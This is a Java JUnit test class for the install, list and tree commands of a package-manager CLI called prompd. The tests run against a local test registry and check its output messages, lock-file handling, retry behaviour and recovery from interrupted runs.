package io.prompd.client.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.prompd.client.install.store.HomeLock;
import io.prompd.client.install.store.PackageStore;
import io.prompd.client.install.store.RunLocks;
import io.prompd.client.install.store.TarballCache;
import io.prompd.client.testing.ClosedPort;
import io.prompd.client.testing.RegistryServer;
import io.prompd.client.testing.TestRegistry;
import io.prompd.core.archive.ArchiveLimits;
import io.prompd.core.archive.Integrity;
import io.prompd.core.files.Folders;
import io.prompd.core.json.Json;
import io.prompd.core.testing.Processes;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The install family of commands as a user types them, against a registry on 127.0.0.1. */
class InstallCommandsTest {

    @TempDir
    Path work;

    TestRegistry registry;
    RegistryServer server;
    Path project;
    Path home;

    @BeforeEach
    void setUp() throws IOException {
        registry = new TestRegistry(work.resolve("registry"))
                .publish("@acme/util", "1.0.0")
                .publish("@acme/util", "1.1.0")
                .publish("@acme/base", "1.0.0", "@acme/util", "^1.0.0")
                .publish("@acme/greeter", "1.0.0", "@acme/base", "^1.0.0", "@acme/util", "^1.0.0");
        server = RegistryServer.serving(registry.root());
        home = work.resolve("home");
        project = Files.createDirectories(work.resolve("app"));
        Files.writeString(project.resolve("prompd.json"), "{\"name\": \"@me/app\", \"version\": \"1.0.0\"}\n");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private CliRun prompd(String... args) {
        return CliRun.in(project, home, "", Map.of("PROMPD_REGISTRY", server.url().toString()), args);
    }

    /** prompd.json with these dependencies, as a hand edit or a merge leaves it: prompd.lock is not touched. */
    private void editDependencies(String dependencies) throws IOException {
        Files.writeString(project.resolve("prompd.json"), "{\"name\": \"@me/app\", \"version\": \"1.0.0\","
                + " \"dependencies\": {" + dependencies + "}}\n");
    }

    @Test
    void installAddsSavesAndReportsWhatItDid() throws IOException {
        CliRun run = prompd("install", "acme/greeter");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals("""
                saved @acme/greeter ^1.0.0 in prompd.json
                3 packages: 3 downloaded, 0 from the cache, 0 already installed
                prompd.lock written:
                  + @acme/base@1.0.0
                  + @acme/greeter@1.0.0
                  + @acme/util@1.1.0
                """, run.out());
        assertEquals("", run.err(), "no progress bar when stderr is not a terminal");
        assertTrue(Files.isRegularFile(home.resolve("packages/@acme/greeter@1.0.0/prompd.json")));

        CliRun again = prompd("install", "--json");
        assertEquals(0, again.exitCode(), again.err());
        JsonNode json = Json.reader().readTree(again.out());
        assertFalse(json.get("resolved").asBoolean());
        assertFalse(json.get("lockChanged").asBoolean());
        assertEquals(0, json.get("lockChanges").size());
        assertEquals("already_installed", json.get("packages").get(0).get("origin").asText());
        assertEquals(0, json.get("repaired").size());
    }

    @Test
    void aDamagedIndexFailsWithTheNetworksCodeNamingItsUrlAndWhereItBreaks() throws IOException {
        Files.writeString(registry.root().resolve("packages/@acme/util/index.json"), "{\"name\": ");

        CliRun run = prompd("info", "@acme/util");

        assertEquals(5, run.exitCode(), run.err());
        assertEquals("error: the registry sent a damaged document: " + server.url() + "packages/@acme/util/index.json"
                + " (at line 1, column 10: Unexpected end-of-input within/between Object entries)\nhint: try again later,"
                + " or use --offline to work from the cache; if it persists, report it to the registry's maintainers"
                + " with this message\n", run.err());
    }

    @Test
    void eachTryAgainIsSaidOnStderrPipedToo() {
        AtomicInteger indexRequests = new AtomicInteger();
        server.onRequest(path -> {
            if (path.endsWith("@acme/util/index.json")) {
                server.flaky(indexRequests.incrementAndGet() == 1 ? 1 : 0, 0);
            }
        });

        CliRun run = prompd("info", "acme/util");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals("could not fetch " + server.url() + "packages/@acme/util/index.json (HTTP 500): trying again,"
                + " attempt 2 of 4…\n", run.err());
    }

    @Test
    void aHostThatRefusedEveryConnectionOfOneRequestIsNotTriedAgainForTheNextOnes() throws IOException {
        String down = "http://127.0.0.1:" + ClosedPort.find();
        Files.writeString(project.resolve("prompd.json"),
                "{\"name\": \"@me/app\", \"version\": \"1.0.0\", \"dependencies\": {\"@a/x\": \"^1.0.0\"}}\n");
        Files.writeString(project.resolve("prompd.lock"), "{\"lockfileVersion\": 1, \"packages\": {\"@a/x\": {\"version\":"
                + " \"1.0.0\", \"resolved\": \"" + down + "/packages/@a/x/-/x-1.0.0.tgz\", \"integrity\": \"sha512-"
                + "A".repeat(86) + "==\"}}}\n");

        CliRun run = CliRun.in(project, home, "", Map.of("PROMPD_REGISTRY", down + "/"), "install");

        assertEquals(5, run.exitCode(), run.err());
        String refused = "cannot reach " + down + " (Connection refused)";
        StringBuilder retries = new StringBuilder();
        for (int attempt = 2; attempt <= 4; attempt++) {
            retries.append("could not fetch ").append(down).append("/packages/@a/x/index.json (").append(refused)
                    .append("): trying again, attempt ").append(attempt).append(" of 4…\n");
        }
        assertEquals(retries + "error: registry " + down + "/ failed: could not fetch " + down + "/packages/@a/x/-/x-1.0.0.tgz:"
                + " not tried, as " + down + " could not be reached on any attempt of an earlier request (last: " + refused
                + ")\nhint: the registry"
                + " or the network may be down; try again later, or use --offline to work from the cache\n", run.err());
    }

    @Test
    void aPauseTheRegistryAsksForIsWaitedOutSayingSoOnStderr() {
        server.throttle(1, "30");

        CliRun run = prompd("install", "acme/util");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals("the registry asks to wait 30 s (HTTP 429): waiting, then fetching " + server.url()
                + "packages/@acme/util/index.json again…\n", run.err());
    }

    @Test
    void aLockEntryKeptAtItsVersionSaysInJsonWhatElseChanged() throws IOException {
        assertEquals(0, prompd("install", "acme/greeter").exitCode());
        Path lock = project.resolve("prompd.lock");
        ObjectNode edited = (ObjectNode) Json.reader().readTree(Files.readAllBytes(lock));
        ((ObjectNode) edited.get("packages").get("@acme/greeter")).putObject("dependencies");
        Files.writeString(lock, Json.writeString(edited));

        CliRun update = prompd("update", "--json");

        assertEquals(0, update.exitCode(), update.err());
        JsonNode change = Json.reader().readTree(update.out()).get("lockChanges").get(0);
        assertEquals("@acme/greeter", change.get("name").asText());
        assertEquals(change.get("before"), change.get("after"));
        assertEquals("[\"dependencies\"]", change.get("differing").toString());
    }

    @Test
    void whatAKilledRunLeftIsRemovedAndSaidSo() throws Exception {
        assertEquals(0, prompd("install", "acme/util").exitCode());
        Path halfUnpacked = Files.createDirectories(home.resolve("packages/@acme/.base@1.0.0.%d.1.part/package"
                .formatted(Processes.endedPid())));
        Processes.killedWhileHolding(home.resolve("install.lock"));

        CliRun run = prompd("install");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals("note: removed 1 leftover of interrupted runs (half-written downloads, unpacked folders or lock files)\n",
                run.err());
        assertFalse(Files.exists(halfUnpacked));
        Files.createDirectories(halfUnpacked);
        Processes.killedWhileHolding(home.resolve("install.lock"));
        JsonNode json = Json.reader().readTree(prompd("install", "--json").out());
        assertEquals(halfUnpacked.getParent().toString(), json.get("repaired").get(0).asText());
    }

    @ParameterizedTest
    @ValueSource(strings = {"cache verify", "cache clean", "uninstall --global @acme/util"})
    void everyCommandTakingTheHomeAfterAKilledRunRemovesWhatItLeftInTheStoreAndTheCache(String command) throws Exception {
        assertEquals(0, prompd("install", "acme/util").exitCode());
        long killed = Processes.endedPid();
        Processes.killedWhileHolding(home.resolve("install.lock"));
        Path halfUnpacked = Files.createDirectories(home.resolve("packages/@acme/.base@1.0.0.%d.1.part/package"
                .formatted(killed)));
        Path halfDownloaded = Files.writeString(Files.list(home.resolve("cache/tarballs/sha512")).findFirst().orElseThrow()
                .resolve(".abc.tgz.%d.2.part".formatted(killed)), "half");

        CliRun run = prompd(command.split(" "));

        assertEquals(0, run.exitCode(), run.err());
        assertFalse(Files.exists(halfUnpacked.getParent()), "the next install would no longer look for it");
        assertFalse(Files.exists(halfDownloaded));
    }

    @Test
    void theTarballAKilledPackLeftInTheProjectIsRemovedAsItsLockFilesAre() throws Exception {
        Path halfPacked = Files.writeString(project.resolve(".me-app-1.0.0.tgz.%d.1.part"
                .formatted(Processes.endedPid())), "half a tarball");

        CliRun run = prompd("install", "--json");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals(halfPacked.toString(), Json.reader().readTree(run.out()).get("repaired").get(0).asText());
        assertFalse(Files.exists(halfPacked));
    }

    @Test
    void aLinkedPrompdJsonGetsTheDependencyAndAPrivateLockStaysPrivate() throws IOException {
        Path dotfiles = Files.createDirectories(work.resolve("dotfiles"));
        Path manifest = Files.move(project.resolve("prompd.json"), dotfiles.resolve("prompd.json"));
        Files.createSymbolicLink(project.resolve("prompd.json"), manifest);
        assertEquals(0, prompd("install", "acme/util").exitCode());
        Path lock = project.resolve("prompd.lock");
        Files.setPosixFilePermissions(lock, PosixFilePermissions.fromString("rw-------"));
        Files.setPosixFilePermissions(manifest, PosixFilePermissions.fromString("rw-------"));

        CliRun run = prompd("install", "acme/base");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(Files.isSymbolicLink(project.resolve("prompd.json")));
        assertTrue(Files.readString(manifest).contains("\"@acme/base\""), Files.readString(manifest));
        assertTrue(Files.readString(lock).contains("\"@acme/base\""), Files.readString(lock));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(lock)));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(manifest)));
    }

    @Test
    void aLockLinkedIntoAFolderThatDoesNotExistStopsTheInstallBeforeItChangesAnything() throws IOException {
        String manifest = Files.readString(project.resolve("prompd.json"));
        Path link = Files.createSymbolicLink(project.resolve("prompd.lock"), Path.of("../nowhere/a/b/prompd.lock"));

        CliRun run = prompd("install", "acme/util");

        Path missing = work.resolve("nowhere/a/b");
        assertEquals(1, run.exitCode(), run.err());
        assertEquals("error: " + link + " is a link to " + missing.resolve("prompd.lock") + ", in a folder that does not"
                + " exist: " + missing + "\nhint: create that folder, or make " + link + " a file or a link to one in a"
                + " folder that exists, then run this again\n", run.err());
        assertFalse(Files.exists(work.resolve("nowhere")));
        assertEquals(manifest, Files.readString(project.resolve("prompd.json")));
        assertFalse(Files.exists(home.resolve("packages/@acme/util@1.1.0")), "nothing installed either");

        Files.createDirectories(missing);
        assertEquals(0, prompd("install", "acme/util").exitCode(), "a link to a file yet to be made is written through");
        assertTrue(Files.isSymbolicLink(link));
        assertTrue(Files.readString(missing.resolve("prompd.lock")).contains("\"@acme/util\""));
    }

    /** Refused by the mode, for root too, so the test means the same whoever runs it. */
    @ParameterizedTest
    @ValueSource(strings = {"prompd.json", "prompd.lock"})
    void aReadOnlyProjectFileStopsTheInstallBeforeItChangesAnythingNamingItWithAFix(String name) throws IOException {
        assertEquals(0, prompd("install", "acme/util").exitCode());
        Path readOnly = project.resolve(name);
        Files.setPosixFilePermissions(readOnly, PosixFilePermissions.fromString("r--r--r--"));
        String manifest = Files.readString(project.resolve("prompd.json"));
        String lock = Files.readString(project.resolve("prompd.lock"));

        CliRun run = prompd("install", "acme/base");

        assertEquals(1, run.exitCode(), run.err());
        assertEquals("error: read-only, so prompd did not change it: " + readOnly + "\nhint: make it writable (chmod u+w "
                + readOnly + "), then run this again\n", run.err());
        assertEquals(List.of(manifest, lock), List.of(Files.readString(project.resolve("prompd.json")),
                Files.readString(project.resolve("prompd.lock"))));
        assertFalse(Files.exists(home.resolve("packages/@acme/base@1.0.0")), "nothing installed either");

        Files.setPosixFilePermissions(readOnly, PosixFilePermissions.fromString("rw-r--r--"));
        assertEquals(0, prompd("install", "acme/base").exitCode(), "the hint's fix works");
    }

    @ParameterizedTest
    @ValueSource(strings = {"packages", "cache/tarballs", "cache/http"})
    void aFileWhereAFolderOfTheHomeGoesIsNamedWithWhatToDo(String folder) throws IOException {
        Path inTheWay = Files.writeString(Files.createDirectories(home.resolve(folder).getParent()).resolve(
                home.resolve(folder).getFileName()), "notes");

        CliRun run = prompd("install", "acme/util");

        assertEquals(4, run.exitCode(), run.err());
        assertEquals("error: a file stands where a folder is needed: " + inTheWay + "\nhint: move or rename that file,"
                + " then run this again\n", run.err());
    }

    @Test
    void aLinkToNoFolderWhereAFolderOfTheHomeGoesIsCalledALinkWithWhereItLeads() throws IOException {
        Path missing = work.resolve("nowhere/x");
        Path link = Files.createSymbolicLink(Files.createDirectories(home).resolve("packages"), missing);

        CliRun run = prompd("install", "acme/util");

        assertEquals(4, run.exitCode(), run.err());
        assertEquals("error: a symbolic link whose target does not exist stands where a folder is needed: " + link
                + " -> " + missing + "\nhint: create the folder it names (mkdir -p " + missing + "), or remove the link (rm "
                + link + "), then run this again\n", run.err());
        assertFalse(Files.exists(missing), "a link's folder is the user's to make");
    }

    @Test
    void aFileWhereTheDocumentsCacheGoesIsRefusedOfflineTooRatherThanCalledNotCached() throws IOException {
        Path inTheWay = Files.writeString(Files.createDirectories(home.resolve("cache")).resolve("http"), "notes");

        CliRun run = prompd("--offline", "info", "acme/util");

        assertEquals(4, run.exitCode(), run.err());
        assertEquals("error: a file stands where a folder is needed: " + inTheWay + "\nhint: move or rename that file,"
                + " then run this again\n", run.err());
    }

    @Test
    void aFolderWhereTheHomesLockFileGoesIsNamedWithWhatToDo() throws IOException {
        Path lock = Files.createDirectories(home.resolve("install.lock"));

        CliRun run = prompd("install", "acme/util");

        assertEquals(1, run.exitCode(), run.err());
        assertEquals("error: " + lock + ": Is a directory\nhint: a folder stands where a file is needed: move or rename"
                + " that folder, then run this again\n", run.err());
    }

    @ParameterizedTest
    @ValueSource(strings = {"prompd.json", "prompd.lock"})
    void aFolderWhereAProjectFileGoesIsNamedWithWhatToDo(String file) throws IOException {
        assertEquals(0, prompd("install", "acme/util").exitCode());
        Files.delete(project.resolve(file));
        Path folder = Files.createDirectories(project.resolve(file));

        for (List<String> command : List.of(List.of("install", "acme/base"), List.of("list"))) {
            CliRun run = prompd(command.toArray(String[]::new));
            assertEquals(1, run.exitCode(), run.err());
            assertEquals("error: " + folder + ": Is a directory\nhint: a folder stands where a file is needed: move or"
                    + " rename that folder, then run this again\n", run.err(), command.toString());
        }
    }

    @Test
    void aTerminalSeesOneProgressLineOnStderrWipedAtTheEnd() {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CliContext terminal = new CliContext(Map.of("PROMPD_HOME", home.toString(), "PROMPD_REGISTRY", server.url().toString()),
                project, work.resolve("user-home"), CliRun.CLOCK, CliRun.SLEEPER, new ByteArrayInputStream(new byte[0]),
                Optional.empty(), true);

        int exitCode = PrompdCommand.commandLine(new PrintWriter(out), new PrintWriter(err), terminal)
                .execute("install", "@acme/util");

        assertEquals(0, exitCode, err.toString());
        assertTrue(err.toString().startsWith("\rinstalling [-"), err.toString());
        assertTrue(err.toString().contains("] 1/1, "), err.toString());
        assertTrue(err.toString().endsWith(" \r"), "the line is wiped: " + err);
        assertFalse(out.toString().contains("\r"), "stdout stays clean for scripts");
    }

    @Test
    void aWaitDuringTheDownloadsIsSaidOnALineOfItsOwnAndTheProgressLineComesBack() {
        AtomicInteger tarballRequests = new AtomicInteger();
        server.onRequest(path -> {
            if (path.endsWith(".tgz")) {
                // the first try is cut off midway, which draws the line; the second is asked to wait
                int tries = tarballRequests.incrementAndGet();
                server.flaky(0, tries == 1 ? 1 : 0);
                if (tries == 2) {
                    server.throttle(1, "30");
                }
            }
        });
        StringWriter err = new StringWriter();
        CliContext terminal = new CliContext(Map.of("PROMPD_HOME", home.toString(), "PROMPD_REGISTRY", server.url().toString()),
                project, work.resolve("user-home"), CliRun.CLOCK, CliRun.SLEEPER, new ByteArrayInputStream(new byte[0]),
                Optional.empty(), true);

        int exitCode = PrompdCommand.commandLine(new PrintWriter(new StringWriter()), new PrintWriter(err), terminal)
                .execute("install", "@acme/util");

        assertEquals(0, exitCode, err.toString());
        String wait = "the registry asks to wait 30 s (HTTP 429): waiting, then fetching " + server.url()
                + "packages/@acme/util/-/util-1.1.0.tgz again…";
        Matcher said = Pattern.compile("\\r(installing [^\\r]*)\\r( *)\\r" + Pattern.quote(wait) + "\n\\rinstalling \\[")
                .matcher(err.toString());
        assertTrue(said.find(), "the line shown is wiped before the message and drawn again after it: " + err);
        assertEquals(said.group(1).length(), said.group(2).length(), err.toString());
    }

    @Test
    void theLockFileIsSortedStableJsonWithoutCredentials() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        String lock = Files.readString(project.resolve("prompd.lock"));
        String url = server.url().toString();
        assertTrue(lock.startsWith("{\n  \"lockfileVersion\": 1,\n  \"packages\": {\n    \"@acme/base\": {\n"
                + "      \"dependencies\": {\n        \"@acme/util\": \"^1.0.0\"\n      },\n      \"integrity\": \"sha512-"), lock);
        assertTrue(lock.contains("\"resolved\": \"" + url + "packages/@acme/util/-/util-1.1.0.tgz\""), lock);
        assertTrue(lock.endsWith("}\n"), lock);
    }

    @Test
    void aBareVersionIsSavedAsItsCaretRangeAndSaveExactKeepsTheVersionChosen() throws IOException {
        registry.publish("@acme/next", "3.0.0-rc.1").tag("@acme/next", "next", "3.0.0-rc.1")
                .publish("@acme/pinned", "1.0.0").publish("@acme/pinned", "1.1.0");

        CliRun run = prompd("install", "@acme/util@1.0.0", "@acme/next@3.0.0-rc.1", "@acme/pinned@=1.0.0",
                "@acme/base@~1.0");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("""
                saved @acme/base ~1.0 in prompd.json
                saved @acme/next ^3.0.0-rc.1 in prompd.json
                saved @acme/pinned =1.0.0 in prompd.json
                saved @acme/util ^1.0.0 in prompd.json
                """), "as npm's save-prefix: " + run.out());
        assertTrue(run.out().contains("+ @acme/util@1.0.0\n"), "the version asked for is installed: " + run.out());

        CliRun exact = prompd("install", "-E", "@acme/util@1.0.0", "@acme/next@next", "@acme/pinned");
        assertEquals(0, exact.exitCode(), exact.err());
        assertTrue(exact.out().startsWith("""
                saved @acme/next 3.0.0-rc.1 in prompd.json
                saved @acme/pinned 1.1.0 in prompd.json
                saved @acme/util 1.0.0 in prompd.json
                """), exact.out());
        assertEquals(2, prompd("install", "--save-exact", "--global", "@acme/util").exitCode(), "nothing to save");
        assertEquals(2, prompd("install", "--save-exact").exitCode(), "nothing to save");
    }

    @Test
    void aVersionWrittenWithVIsABareVersionToo() throws IOException {
        registry.publish("@acme/pinned", "1.0.0").publish("@acme/pinned", "1.1.0");

        CliRun run = prompd("install", "@acme/util@v1.0.0", "@acme/pinned@=v1.0.0");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("""
                saved @acme/pinned =v1.0.0 in prompd.json
                saved @acme/util ^1.0.0 in prompd.json
                """), "npm reads v1.0.0 as the version 1.0.0: " + run.out());
        CliRun exact = prompd("install", "-E", "@acme/util@v1.0.0");
        assertEquals(0, exact.exitCode(), exact.err());
        assertTrue(exact.out().startsWith("saved @acme/util 1.0.0 in prompd.json\n"), exact.out());
    }

    @Test
    void frozenFailsWithExitConflict() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        Files.writeString(project.resolve("prompd.json"),
                "{\"name\": \"@me/app\", \"version\": \"1.0.0\", \"dependencies\": {\"@acme/util\": \"1.0.0\"}}\n");
        CliRun run = prompd("install", "--frozen");
        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: prompd.lock is out of date with prompd.json"), run.err());
    }

    /** prompd.lock's entry of @acme/base recording a dependency on the package, as a hand edit does. */
    private void recordInTheLockThatBaseNeeds(String name, String range) throws IOException {
        ObjectNode lock = (ObjectNode) Json.reader().readTree(Files.readString(project.resolve("prompd.lock")));
        ((ObjectNode) lock.get("packages").get("@acme/base").get("dependencies")).put(name, range);
        Files.writeString(project.resolve("prompd.lock"), lock.toPrettyString() + "\n");
    }

    /** prompd.lock without the entry of @acme/util and, if asked, without @acme/base's record of needing it. */
    private void loseUtilFromTheLock(boolean recordToo) throws IOException {
        ObjectNode lock = (ObjectNode) Json.reader().readTree(Files.readString(project.resolve("prompd.lock")));
        ObjectNode packages = (ObjectNode) lock.get("packages");
        packages.remove("@acme/util");
        if (recordToo) {
            ((ObjectNode) packages.get("@acme/base")).remove("dependencies");
        }
        Files.writeString(project.resolve("prompd.lock"), lock.toPrettyString() + "\n");
    }

    @Test
    void aLockThatLostADependencyRecordAndItsEntryIsStaleToInstallFrozenListAndTree() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        assertEquals(0, prompd("install").exitCode());
        assertTrue(Files.isRegularFile(project.resolve(".prompd/lock-audited")), "the lock found agreeing is noted");
        loseUtilFromTheLock(true);

        CliRun frozen = prompd("install", "--frozen");
        assertEquals(4, frozen.exitCode(), frozen.err());
        assertTrue(frozen.err().startsWith("error: prompd.lock is out of date with prompd.json and --frozen forbids"
                + " changing it: change @acme/base@1.0.0 (dependencies), add @acme/util@1.1.0"), frozen.err());
        String stale = "prompd.lock is stale: prompd.lock records no dependencies for @acme/base@1.0.0, and its own"
                + " prompd.json declares @acme/util ^1.0.0";
        for (String command : List.of("list", "tree")) {
            CliRun run = prompd(command);
            assertEquals(1, run.exitCode(), command + ": " + run.err());
            assertTrue(run.err().contains("error: " + stale + "\n"), command + ": " + run.err());
            assertTrue(run.err().contains("hint: run 'prompd install' to resolve it again"), command + ": " + run.err());
        }

        CliRun install = prompd("install");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("prompd.lock was stale, so its versions were resolved again: prompd.lock"
                + " records no dependencies for @acme/base@1.0.0, and its own prompd.json declares @acme/util ^1.0.0"),
                install.err());
        assertTrue(install.out().contains("@acme/base@1.0.0 (dependencies)\n  + @acme/util@1.1.0\n"), install.out());
        assertEquals(0, prompd("list").exitCode());
        assertEquals(0, prompd("install", "--frozen").exitCode(), "repaired for good");
    }

    @Test
    void anEntryRecordingARangeItsLockedDependencyIsOutsideIsStaleToInstallAndNamedAsTheLocksByList()
            throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        recordInTheLockThatBaseNeeds("@acme/util", "^9.0.0");

        CliRun list = prompd("list");
        CliRun install = prompd("install");

        assertEquals(1, list.exitCode(), list.err());
        assertTrue(list.err().startsWith("error: prompd.lock does not match itself: @acme/util@1.1.0 is outside ^9.0.0,"
                + " which prompd.lock's entry of @acme/base@1.0.0 records\n"), list.err());
        assertFalse(list.err().contains("does not match prompd.json"), list.err());
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("warning: prompd.lock was stale, so its versions were resolved again:"
                + " prompd.lock records @acme/util ^9.0.0 for @acme/base@1.0.0, and its own prompd.json declares"
                + " @acme/util ^1.0.0"), install.err());
        assertEquals(0, prompd("list").exitCode(), "repaired");
    }

    @Test
    void aVersionOutsideARangeOnlyTheLockRecordsIsInvalidToTreeAsToList() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        recordInTheLockThatBaseNeeds("@acme/util", "^9.0.0");

        CliRun list = prompd("list");
        CliRun listJson = prompd("list", "--json");
        CliRun tree = prompd("tree");
        CliRun treeJson = prompd("tree", "--json");
        CliRun dot = prompd("tree", "--dot");

        String invalid = "invalid: outside ^9.0.0, run 'prompd install'";
        assertEquals(1, list.exitCode(), list.err());
        assertTrue(list.out().contains("@acme/util@1.1.0  (transitive, " + invalid + ")\n"), list.out());
        assertTrue(Json.reader().readTree(listJson.out()).get(1).get("invalid").asBoolean(), listJson.out());
        assertEquals(1, tree.exitCode(), tree.err());
        assertTrue(tree.out().endsWith("""
                └── @acme/base@1.0.0 ^1.0.0
                    └── @acme/util@1.1.0 ^1.0.0 (%s)
                """.formatted(invalid)), "the range the lock records, as list names it: " + tree.out());
        assertEquals(1, treeJson.exitCode(), treeJson.err());
        JsonNode util = Json.reader().readTree(treeJson.out()).at("/dependencies/0/dependencies/0");
        assertEquals("@acme/util", util.get("name").asText(), treeJson.out());
        assertTrue(util.get("invalid").asBoolean(), treeJson.out());
        assertEquals(1, dot.exitCode(), dot.err());
        assertTrue(dot.out().contains("  \"@acme/util@1.1.0\" [label=\"@acme/util@1.1.0\\ninvalid: outside ^9.0.0\","
                + " color=red, fontcolor=red];\n"), dot.out());
    }

    @Test
    void aDependencyOnlyTheLockRecordsIsTheLocksToListAndNoChildInTheTree() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        recordInTheLockThatBaseNeeds("@acme/zzz", "^9.0.0");

        CliRun list = prompd("list");
        CliRun tree = prompd("tree");

        String stale = "error: prompd.lock is stale: prompd.lock records @acme/util ^1.0.0, @acme/zzz ^9.0.0 for"
                + " @acme/base@1.0.0, and its own prompd.json declares @acme/util ^1.0.0\n";
        assertEquals(1, list.exitCode(), list.err());
        assertTrue(list.err().contains(stale), list.err());
        assertFalse(list.err().contains("needs @acme/zzz"), "@acme/base does not need it: " + list.err());
        assertEquals(1, tree.exitCode(), tree.err());
        assertTrue(tree.err().contains(stale), tree.err());
        assertTrue(tree.out().endsWith("""
                └── @acme/base@1.0.0 ^1.0.0
                    └── @acme/util@1.1.0 ^1.0.0
                """), "what @acme/base's own prompd.json declares: " + tree.out());
    }

    @Test
    void aWarmInstallReadsTheInstalledManifestsOnlyOnceAfterEachChangeOfTheLock() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        assertEquals(0, prompd("install").exitCode());
        Path manifest = home.resolve("packages/@acme/base@1.0.0/prompd.json");
        Files.writeString(manifest, Files.readString(manifest).replace("\"@acme/util\"", "\"@acme/other\""));

        CliRun unchanged = prompd("install");
        Path lock = project.resolve("prompd.lock");
        Files.setLastModifiedTime(lock, FileTime.fromMillis(Files.getLastModifiedTime(lock).toMillis() + 1000));
        CliRun touched = prompd("install");
        Files.writeString(lock, Files.readString(lock).replace("util-1.1.0.tgz", "util-1.1.0.tgz?edited"));
        CliRun edited = prompd("install");

        assertEquals(0, unchanged.exitCode(), unchanged.err());
        assertEquals("", unchanged.err(), "the lock unchanged since it was found agreeing is not audited again");
        assertEquals("", touched.err(), "nor one whose content is the same: " + touched.err());
        assertEquals(0, edited.exitCode(), edited.err());
        assertTrue(edited.err().startsWith("warning: prompd.lock was stale, so its versions were resolved again:"
                + " prompd.lock records @acme/util ^1.0.0 for @acme/base@1.0.0, and its own prompd.json declares"
                + " @acme/other ^1.0.0"), "a lock changed since is audited again: " + edited.err());
    }

    @Test
    void anEntryAnEditOfPrompdJsonAloneBringsIntoReachIsAuditedThoughTheLockAndTheStoreAreUnchanged()
            throws IOException {
        registry.publish("@acme/lone", "1.0.0");
        assertEquals(0, prompd("install", "@acme/util", "@acme/lone").exitCode());
        String recorded = Integrity.of(Files.readAllBytes(registry.tarball("@acme/lone", "1.0.0"))).toString();
        String edited = editIntegrity(recorded);
        editDependencies("\"@acme/util\": \"^1.1.0\"");
        assertEquals(4, prompd("install", "--frozen").exitCode(), "the lock keeps @acme/lone, out of reach");

        editDependencies("\"@acme/util\": \"^1.1.0\", \"@acme/lone\": \"^1.0.0\"");
        CliRun reached = prompd("install", "--frozen");

        assertEquals(6, reached.exitCode(), "as a fresh audit of the lock fails: " + reached.err());
        assertTrue(reached.err().startsWith("error: the store's copy of @acme/lone@1.0.0 ("
                + home.resolve("packages/@acme/lone@1.0.0") + ") came from other bytes (" + recorded + ") than"
                + " prompd.lock pins (" + edited + ")\n"), reached.err());
    }

    @Test
    void aLockThatLostOnlyATransitiveEntryIsStaleToListAsToInstallFrozen() throws IOException {
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode());
        loseUtilFromTheLock(false);

        assertEquals(4, prompd("install", "--frozen").exitCode());
        CliRun list = prompd("list");
        assertEquals(1, list.exitCode(), list.err());
        assertTrue(list.err().contains("error: prompd.lock is stale: @acme/base@1.0.0 needs @acme/util ^1.0.0, which"
                + " prompd.lock lacks\n"), list.err());
    }

    @Test
    void aPackageNamedAloneWhoseLatestVersionDoesNotGoWithTheProjectGetsTheHighestThatDoes() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.publish("@acme/util", "2.0.0").publish("@acme/lone", "1.0.0", "@acme/util", "^2.0.0");

        CliRun install = prompd("install", "@acme/util");
        CliRun none = prompd("install", "@acme/lone");

        assertEquals(0, install.exitCode(), install.err());
        assertEquals("warning: @acme/util ^2.0.0, from its latest version, cannot be installed in this project, so"
                + " 1.1.0, the highest version that can, is installed\n", install.err());
        assertTrue(Files.readString(project.resolve("prompd.json")).contains("\"@acme/util\": \"^1.1.0\""),
                "the version installed is saved as ^<version>, as for the latest");
        assertEquals(4, none.exitCode(), none.err());
        assertTrue(none.err().contains("@acme/lone ^1.0.0 is the range prompd chose from the latest version, named"
                + " without one, and no other version goes with the project either"), none.err());
        assertEquals(4, prompd("install", "@acme/util@^2.0.0").exitCode(), "a range the user wrote stays theirs");
    }

